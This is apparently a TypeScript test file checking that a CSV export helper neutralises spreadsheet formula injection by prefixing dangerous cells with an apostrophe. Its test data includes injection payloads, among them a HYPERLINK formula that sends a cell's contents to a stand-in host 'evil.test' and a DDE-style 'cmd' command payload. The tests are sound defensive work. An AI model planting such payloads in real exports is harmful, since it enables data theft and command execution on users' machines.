import { assert, describe, it } from "@effect/vitest"
import { parse } from "csv-parse/sync"
import { csvLine, textCell } from "./csv.ts"

/** What a spreadsheet would run, or take apart, and the text that it shows instead. */
const hostile: ReadonlyArray<readonly [written: string, shown: string]> = [
  ["=1+1", "'=1+1"],
  ["=HYPERLINK(\"https://evil.test/?\"&A1,\"Paid\")", "'=HYPERLINK(\"https://evil.test/?\"&A1,\"Paid\")"],
  ["+49 30 123", "'+49 30 123"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ["@SUM(1+9)", "'@SUM(1+9)"],
  ["\t=1", "'\t'=1"],
  ["\r=1", "'\r'=1"],
  ["\n=1", "'\n'=1"],
  ["\tplain", "'\tplain"],
  ["   =1", "'   =1"],
  ["\u00a0=1", "'\u00a0=1"],
  ["\ufeff=1", "'\ufeff=1"],
  ["\"=1", "'\"=1"],
  ["'=1", "''=1"],
  ["' \"=1", "'' \"=1"],
  ["＝1+1", "'＝1+1"],
  ["＋1", "'＋1"],
  ["－1", "'－1"],
  ["＠SUM(1)", "'＠SUM(1)"],
  ["-5", "'-5"],
  ["a;=1", "a;'=1"],
  ["a\t=1", "a\t'=1"],
  ["line\r\n=1", "line\r\n'=1"],
  ["a; \"=1;\u00a0@b", "a;' \"=1;'\u00a0@b"],
  ["a;\t＝1", "a;\t'＝1"]
]

const plain: ReadonlyArray<string> = [
  "",
  "Ada",
  "a,b",
  "a;b=1",
  "line\r\n\r\nline; end",
  "say \"hi\"",
  "1=1",
  "a@b.example",
  "2026-01-01T00:00:00.000+01:00",
  "Ünïcode 漢字 🦊",
  "pi_01KA"
]

const parsed = (text: string): unknown => parse(text, { relax_column_count: false })

describe("a cell of text", () => {
  it.each(hostile)("%j is shown as %j, and never run", (written, shown) => {
    assert.deepStrictEqual(parsed(csvLine([textCell(written), "end"])), [[shown, "end"]])
  })

  it.each(plain)("%j stays what it is", (text) => {
    assert.deepStrictEqual(parsed(csvLine([textCell(text), "end"])), [[text, "end"]])
  })

  it("is whole in a spreadsheet that takes semicolons or tabs for separators", () => {
    for (const delimiter of [";", "\t"]) {
      assert.deepStrictEqual(parse(csvLine([textCell(`a${delimiter}b`)]), { delimiter }), [[`a${delimiter}b`]])
    }
  })

  it("begins no formula behind another cell, in a spreadsheet that takes semicolons or tabs for separators", () => {
    for (const delimiter of [";", "\t"]) {
      const line = csvLine(["cus_1", textCell(`evil${delimiter}=HYPERLINK(1)${delimiter}x`)])
      assert.deepStrictEqual(parse(line, { delimiter, relax_quotes: true }), [["cus_1,\"evil", "'=HYPERLINK(1)", "x\""]])
    }
  })
})
